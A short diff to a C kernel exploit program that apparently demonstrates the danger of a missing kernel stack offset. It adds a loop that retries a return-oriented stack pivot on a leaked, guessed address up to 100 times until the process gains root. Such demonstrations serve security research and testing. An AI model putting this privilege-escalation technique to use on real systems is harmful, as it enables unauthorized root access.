@@ -11,10 +11,11 @@
 #include <stdbool.h>
 #include <stdint.h>
 #include <string.h>
+#include <unistd.h>
 
 #include "attack.h"
 
-enum { CHAIN_WORDS = 10, WORD_R11 = 6, OPCODE_RET = 0xc3 };
+enum { CHAIN_WORDS = 10, WORD_R11 = 6, OPCODE_RET = 0xc3, MOST_TRIES = 100 };
 
 struct chain {
 	uint64_t words[CHAIN_WORDS];
@@ -122,6 +123,10 @@ int main(void)
 	attack_say("the kernel stack ends at 0x%lx; without a random offset the registers are at "
 		   "0x%lx",
 		   leak.stack_top, guess);
-	pivot_with(chain.words, guess);
+	/* what lies there now and then leads back to where it came from, and then there is another
+	 * try */
+	for (int i = 0; i < MOST_TRIES && getuid() != 0; i++) {
+		pivot_with(chain.words, guess);
+	}
 	return attack_finish();
 }
